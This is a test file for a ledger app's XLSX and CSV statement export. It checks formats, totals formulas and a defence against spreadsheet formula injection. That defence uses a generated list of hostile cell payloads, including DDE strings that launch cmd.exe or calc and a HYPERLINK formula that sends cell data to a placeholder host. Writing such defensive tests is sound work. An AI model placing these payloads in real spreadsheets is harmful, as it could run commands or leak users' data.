/** X1 X2: statements in a real spreadsheet: figures that are numbers, totals that reckon, text that never runs. */

import { writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { strFromU8, strToU8, unzipSync, zipSync } from 'fflate';
import { describe, expect, test } from 'vitest';
import { formatDay } from '../../db/ledger/calendar.ts';
import { formatDecimal, type Units } from '../../db/ledger/money.ts';
import { Refused } from '../../db/ledger/refusal.ts';
import { readAccountStatement, writeAccountStatement } from '../../electron/documents/account-statement.ts';
import type { StatementRow } from '../../electron/documents/statement-row.ts';
import { writeStatementXlsx } from '../../electron/documents/statement-xlsx.ts';
import { LONGEST_TEXT, columnName } from '../../electron/documents/xlsx/cells.ts';
import { MOST_ROWS, writeWorkbook } from '../../electron/documents/xlsx/workbook.ts';
import { temporaryFolder } from '../support/books.ts';
import { hasProgram } from '../support/programs.ts';
import { openInSpreadsheet, type OpenedCell } from '../support/spreadsheet.ts';
import { wholeText } from './nasty-book.ts';
import { NASTY } from './nasty.ts';

const EUR: Units = { currency: 'EUR', currencyDecimals: 2, creditDecimals: 2 };
const PERIOD = { from: 20_499, to: 20_600, opening: { credits: 500, cost: 450 } };
const isThere = hasProgram('soffice', 'spreadsheets are not opened in LibreOffice');

function row(facts: Partial<StatementRow>): StatementRow {
  const nothing = { id: 'E1', kind: 'quotation', campaign: '', category: '', lead: '', method: '', note: '', code: '', costCentre: '' };
  return { day: 20_500, credits: 0, cost: 0, amount: null, ...nothing, ...facts };
}

function bytesOf<Result>(pieces: Generator<Uint8Array, Result>): { readonly bytes: Buffer; readonly result: Result; readonly largest: number } {
  const list: Uint8Array[] = [];
  for (;;) {
    const next = pieces.next();
    if (next.done) return { bytes: Buffer.concat(list), result: next.value, largest: Math.max(...list.map(({ length }) => length)) };
    list.push(next.value);
  }
}

function save(name: string, content: string | Uint8Array): string {
  const file = join(temporaryFolder(), name);
  writeFileSync(file, content);
  return file;
}

function openStatement(rows: readonly StatementRow[], units: Units, bytes = bytesOf(writeStatementXlsx(rows, PERIOD, units)).bytes) {
  const [sheet] = openInSpreadsheet(save('s.xlsx', bytes));
  return sheet?.rows ?? [];
}

const shown = ({ kind, value }: OpenedCell) => (kind === 'empty' ? '' : value);

describe('X2 the statement as XLSX', { timeout: 120_000 }, () => {
  const rows = [
    row({ id: 'T1', kind: 'top_up', credits: 100_000, cost: 90_000, amount: 90_000, method: 'Visa 4242', code: '1360' }),
    row({ id: '0012', day: 20_501, campaign: '-10 %', lead: 'L1', credits: -1250, cost: -1125, code: '6610', costCentre: '0007' }),
    row({ id: '1e5', kind: 'promotion', amount: 501, note: 'line\nbreak' }),
  ];

  test.runIf(isThere)('opens with numbers, dates, formulas for totals, and codes that keep their zeros', () => {
    const [head, opening, first, second, third, closing] = openStatement(rows, EUR);
    expect(head?.map(shown)).toEqual([
      'Date', 'Id', 'Kind', 'Campaign', 'Category', 'Lead', 'Method', 'Note', 'Credits in', 'Credits out', 'Credits balance', 'Cost in, EUR', 'Cost out, EUR', 'Cost balance, EUR',
      'Amount, EUR', 'Currency', 'Account code', 'Cost centre',
    ]); // prettier-ignore
    expect(opening?.map(shown)).toEqual([formatDay(20_499), '', 'opening', '', '', '', '', '', '0', '0', '5', '0', '0', '4.5']);
    expect(first?.map(shown)).toEqual([
      formatDay(20_500),
      'T1',
      'top_up',
      '',
      '',
      '',
      'Visa 4242',
      '',
      '1000',
      '0',
      '1005',
      '900',
      '0',
      '904.5',
      '900',
      'EUR',
      '1360',
    ]);
    expect(second?.map(({ kind }) => kind)).toEqual([
      'date',
      'string',
      'string',
      'string',
      'empty',
      'string',
      'empty',
      'empty',
      ...Array<string>(6).fill('float'),
      'empty',
      'empty',
      'string',
      'string',
    ]);
    expect([second?.[1]?.value, second?.[17]?.value, third?.[1]?.value, third?.[7]?.value]).toEqual(['0012', '0007', '1e5', 'line\nbreak']);
    expect(closing?.slice(8, 14)).toEqual(
      [
        ['SUM([.I2:.I5])', '1000'],
        ['SUM([.J2:.J5])', '12.5'],
        ['[.K2]+[.I6]-[.J6]', '992.5'],
        ['SUM([.L2:.L5])', '900'],
        ['SUM([.M2:.M5])', '11.25'],
        ['[.N2]+[.L6]-[.M6]', '893.25'],
      ].map(([formula, value]) => ({ kind: 'float', formula: `of:=${formula}`, value })),
    );
  });

  test.runIf(isThere)('its formulas come to the same when the spreadsheet reckons itself', () => {
    const parts = unzipSync(bytesOf(writeStatementXlsx(rows, PERIOD, EUR)).bytes);
    const sheet = strFromU8(parts['xl/worksheets/sheet1.xml'] as Uint8Array);
    const unreckoned = sheet.replaceAll(/<\/f><v>[^<]*<\/v>/g, '</f>');
    expect(unreckoned).not.toBe(sheet);
    const bytes = zipSync({ ...parts, 'xl/worksheets/sheet1.xml': strToU8(unreckoned) });
    expect(openStatement(rows, EUR, Buffer.from(bytes)).at(-1)?.map(shown)).toEqual(openStatement(rows, EUR).at(-1)?.map(shown));
  });

  test.runIf(isThere)('keeps any text exactly, and any size of number', () => {
    const texts = [...NASTY, 'a_x000D_b', '_x0041_', '\uffff', `${'\u{1f6c1}'.repeat(10)}`];
    const largest = 99_999_999_999_999;
    const kwd: Units = { currency: 'KWD', currencyDecimals: 3, creditDecimals: 4 };
    const opened = openStatement(
      texts.map((note, index) => row({ id: `E${index}`, note, cost: index === 0 ? largest : 0, credits: index === 1 ? -largest : 0 })),
      kwd,
    );
    const notes = opened.slice(2, -1).map((cells) => (cells[7] === undefined ? '' : shown(cells[7])));
    // LibreOffice's flat file itself has no place for what XML cannot say, nor for a return in a text.
    const sayable = (text: string) => text.replaceAll(/\r\n?/g, '\n').replaceAll(/[\u0000-\u0008\u000b-\u001f\uffff]/g, '');
    expect(notes.map(sayable)).toEqual(texts.map(sayable));
    expect([opened[2]?.[11]?.value, opened[3]?.[9]?.value].map(Number)).toEqual([formatDecimal(largest, 3), formatDecimal(largest, 4)].map(Number));
  });

  test('has a frozen row of titles, formats with the decimals of the units, and the same bytes each time', () => {
    const jpy: Units = { currency: 'JPY', currencyDecimals: 0, creditDecimals: 3 };
    const { bytes } = bytesOf(writeStatementXlsx(rows, PERIOD, jpy));
    expect(bytesOf(writeStatementXlsx(rows, PERIOD, jpy)).bytes.equals(bytes)).toBe(true);
    const parts = unzipSync(bytes);
    const sheet = strFromU8(parts['xl/worksheets/sheet1.xml'] as Uint8Array);
    expect(sheet).toContain('<pane ySplit="1" topLeftCell="A2" activePane="bottomLeft" state="frozen"/>');
    const styles = [...strFromU8(parts['xl/styles.xml'] as Uint8Array).matchAll(/<xf numFmtId="(\d+)"[^>]*xfId/g)].map(([, format]) => format);
    const formats = new Map(
      [...strFromU8(parts['xl/styles.xml'] as Uint8Array).matchAll(/numFmtId="(\d+)" formatCode="([^"]*)"/g)].map(([, id, code]) => [id, code]),
    );
    const formatOf = (cell: string) => formats.get(styles[Number(new RegExp(`r="${cell}" s="(\\d+)"`).exec(sheet)?.[1])]);
    expect([formatOf('A3'), formatOf('I3'), formatOf('L3'), formatOf('L6')]).toEqual(['yyyy\\-mm\\-dd', '#,##0.000', '#,##0', '#,##0']);
  });

  test('a text that no cell can hold is cut, and says so', () => {
    const parts = unzipSync(bytesOf(writeStatementXlsx([row({ note: 'x'.repeat(40_000) })], PERIOD, EUR)).bytes);
    const longest = /x{100,}…?/.exec(strFromU8(parts['xl/worksheets/sheet1.xml'] as Uint8Array))?.[0] ?? '';
    expect([longest.length, longest.at(-1)]).toEqual([LONGEST_TEXT, '…']);
  });

  test('is written in pieces, and more rows than a sheet has are refused', () => {
    const many = (count: number) => Array.from({ length: count }, () => row({}));
    expect(bytesOf(writeStatementXlsx(many(20_000), PERIOD, EUR)).largest).toBeLessThan(500_000);
    const sheet = (length: number) => ({ name: 'Many', columns: [], rows: Array.from({ length }, () => ({ cells: [], strong: false })) });
    expect(bytesOf(writeWorkbook([sheet(MOST_ROWS - 1)])).bytes.length).toBeGreaterThan(0);
    expect(() => bytesOf(writeWorkbook([sheet(MOST_ROWS)]))).toThrow(Refused);
  });

  test('names columns as spreadsheets do', () => {
    expect([0, 25, 26, 51, 52, 701, 702].map(columnName)).toEqual(['A', 'Z', 'AA', 'AZ', 'BA', 'ZZ', 'AAA']);
  });
});

const BEGINNINGS = ['=', '+', '-', '@', '\t=', '\r=', '\n=', ' =', "'=", '"=', '＝', '\u00a0=', '\u200b='];
const REST = [
  '1+1', '2*3', 'A1', 'SUM(A1:A9)', 'NOW()', 'RAND()', 'TRUE()', '1/0', 'CONCATENATE("a","b")', 'HYPERLINK("http://example.invalid/?x="&A1,"click")', 'WEBSERVICE("http://example.invalid/")',
  'IMPORTXML("http://example.invalid/","//a")', "cmd|' /C calc'!A0", "DDE(\"soffice\";\"file\";\"A1\")", 'INDIRECT("A1")', 'CELL("filename")', 'INFO("system")', 'ROW()', '"a"&"b"', '-1', '+1', '(1)', '1E3', '0x10', '1%',
  "MSEXCEL|'\\..\\..\\cmd.exe'!''", 'FILTERXML("<a/>","//a")', 'IF(1=1,2,3)', '1;2', '1,2', '{1,2}', 'SUM(1;2)', 'of:=1+1', 'LEN("abc")', 'OFFSET(A1,0,0)', 'EXEC("calc")', 'RTD("a",,"b")', 'CHAR(65)', '@SUM(1,1)', "'1",
]; // prettier-ignore
const PAYLOADS = BEGINNINGS.flatMap((beginning) => REST.map((rest) => beginning + rest));

describe('X1 text that a spreadsheet would run', { timeout: 180_000 }, () => {
  const rows = PAYLOADS.map((text, index) =>
    row({
      id: `${text} `,
      note: text,
      campaign: text,
      category: text,
      lead: text,
      method: text,
      credits: index % 2 === 0 ? -125 : 125,
      cost: -1,
      amount: 7,
    }),
  );
  const texts = ['id', 'campaign', 'category', 'lead', 'method', 'note'] as const;
  const columns = { date: 0, id: 1, campaign: 3, category: 4, lead: 5, method: 6, note: 7 } as const;

  test(`there are enough of them`, () => expect(new Set(PAYLOADS).size).toBeGreaterThanOrEqual(500));

  test.runIf(isThere)('is not run in CSV, where numbers are still numbers and everything can be read back', () => {
    const { text } = wholeText(writeAccountStatement(rows, PERIOD, EUR));
    const opened = openInSpreadsheet(save('s.csv', text))[0]?.rows ?? [];
    expect(opened).toHaveLength(rows.length + 3);
    expect(opened.flat().filter(({ formula, kind }) => formula !== null || kind === 'error')).toEqual([]);
    for (const cells of opened.slice(2, -1)) expect([8, 9, 10, 11, 12, 13, 14].map((at) => cells[at]?.kind)).toEqual(Array(7).fill('float'));
    const read = readAccountStatement(text, EUR);
    for (const name of texts) expect(read.events.map((event) => event[name])).toEqual(rows.map((each) => each[name]));
    // The spreadsheet would have run them: the same cells without their guard.
    const unguarded = openInSpreadsheet(save('u.csv', PAYLOADS.map((payload) => `"${payload.replaceAll('"', '""')}"\r\n`).join('')))[0]?.rows ?? [];
    expect(unguarded.flat().filter(({ formula }) => formula !== null).length).toBeGreaterThan(30);
  });

  test.runIf(isThere)('is not run in XLSX, and stands there as it is', () => {
    const opened = openStatement(rows, EUR);
    const body = opened.slice(2, -1);
    expect(body).toHaveLength(rows.length);
    for (const [index, cells] of body.entries()) {
      expect(cells.filter(({ formula }) => formula !== null)).toEqual([]);
      for (const name of texts)
        expect([cells[columns[name]]?.kind, cells[columns[name]]?.value]).toEqual(['string', (rows[index] as StatementRow)[name]]);
      expect([8, 9, 10, 11, 12, 13, 14].map((at) => cells[at]?.kind)).toEqual(Array(7).fill('float'));
    }
  });
});
